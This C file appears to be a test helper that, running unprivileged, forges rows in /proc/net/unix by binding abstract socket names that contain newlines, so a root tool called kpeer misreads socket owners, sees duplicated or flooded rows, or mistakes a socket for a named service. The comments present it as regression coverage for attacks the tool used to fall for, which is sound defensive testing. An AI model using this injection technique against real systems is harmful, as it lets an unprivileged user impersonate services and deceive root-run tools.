// An unprivileged user's attack on root's kpeer (run as uid 65534 in the
// guest, built static): /proc/net/unix prints abstract names raw, so a name
// with a newline makes lines that parse as rows of the table.
//
//   forge DIR INODE FLOOD
//   forge cut NAME
//   forge relabel NAME        (enters a network namespace of its own; unprivileged,
//                             with a user namespace of its own too)
//
// binds one name whose second line is a row with INODE (root's listener)
// and address 0 (the "listed twice" attack: it used to make kpeer drop the
// real row), and FLOOD names each carrying a row at address 0 (it used to
// make the kcore method take the addresses for hashed and give up). Prints
// "ready" and waits for EOF on stdin.
//
// cut: a listener bound to NAME, a newline and a record: /proc/net/unix
// prints the listener's row cut short, as if bound to @NAME (a service's
// name). Prints "cut INODE" (its own socket), then "ready".
//
// relabel: a socketpair in a network namespace of its own, and in the
// first namespace a name whose second line is a row for that pair's inode
// with path @NAME: the forged row tries to pass the pair off as a socket
// bound to @NAME in the first namespace. Prints "pair INODE", then "ready".
#define _GNU_SOURCE
#include <sched.h>
#include <stddef.h>
#include <sys/stat.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static int bind_name(const char *text, size_t len) {
    struct sockaddr_un a;
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    if (len > sizeof a.sun_path - 1) len = sizeof a.sun_path - 1;
    memcpy(a.sun_path + 1, text, len);  // abstract: a leading NUL
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (s < 0 || bind(s, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len)) != 0) {
        perror("forge: bind");
        return -1;
    }
    return listen(s, 1);
}

// Binds s to the abstract name `text` (n bytes, a leading NUL added).
static int bind_abstract(int s, const char *text, size_t n) {
    struct sockaddr_un a;
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    if (n > sizeof a.sun_path - 1) return -1;
    memcpy(a.sun_path + 1, text, n);
    return bind(s, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n));
}

// Prints "WHAT INODE" and "ready", then holds everything until EOF on stdin.
static int hold(const char *what, unsigned long inode) {
    printf("%s %lu\nready\n", what, inode);
    fflush(stdout);
    char buf[64];
    while (read(0, buf, sizeof buf) > 0) {}
    return 0;
}

static int relabel(const char *name) {
    int host = socket(AF_UNIX, SOCK_STREAM, 0);  // in the first namespace: it keeps it
    // As root a network namespace alone; unprivileged, inside a user
    // namespace of its own, as any user may make.
    if (host < 0 || (unshare(CLONE_NEWNET) != 0 && unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0)) {
        perror("forge: unshare");
        return 1;
    }
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) != 0) return 1;
    struct stat st;
    fstat(sv[0], &st);
    char text[200];
    int n = snprintf(text, sizeof text, "r\n%016lx: %08X %08X %08X %04X %02X %5lu @%s", 0ul, 2u, 0u, 0u, 1u, 3u,
                     (unsigned long)st.st_ino, name);
    if (n < 0 || bind_abstract(host, text, (size_t)n) != 0) {
        perror("forge: bind");
        return 1;
    }
    return hold("pair", (unsigned long)st.st_ino);
}

static int cut(const char *name) {
    char text[200];
    int n = snprintf(text, sizeof text, "%s\n%016lx: %08X %08X %08X %04X %02X %5lu", name, 0ul, 2u, 0u, 0u, 1u, 1u, 1ul);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct stat st;
    if (n < 0 || s < 0 || bind_abstract(s, text, (size_t)n) != 0 || listen(s, 1) != 0 || fstat(s, &st) != 0) {
        perror("forge: cut");
        return 1;
    }
    return hold("cut", (unsigned long)st.st_ino);
}

int main(int argc, char **argv) {
    if (argc == 3 && strcmp(argv[1], "relabel") == 0) return relabel(argv[2]);
    if (argc == 3 && strcmp(argv[1], "cut") == 0) return cut(argv[2]);
    if (argc != 4) {
        fprintf(stderr, "usage: forge DIR INODE FLOOD\n");
        return 64;
    }
    (void)argv[1];
    unsigned long inode = strtoul(argv[2], NULL, 10);
    int flood = atoi(argv[3]);
    char text[200];
    int n = snprintf(text, sizeof text, "f\n%016lx: %08X %08X %08X %04X %02X %5lu", 0ul, 2u, 0u, 0x10000u, 1u, 1u, inode);
    if (bind_name(text, (size_t)n) != 0) return 1;
    for (int i = 0; i < flood; i++) {
        n = snprintf(text, sizeof text, "g%d\n%016lx: %08X %08X %08X %04X %02X %5lu", i, 0ul, 2u, 0u, 0u, 1u, 1u,
                     9000000ul + (unsigned long)i);
        if (bind_name(text, (size_t)n) != 0) return 1;
    }
    printf("ready\n");
    fflush(stdout);
    char buf[64];
    while (read(0, buf, sizeof buf) > 0) {}
    return 0;
}
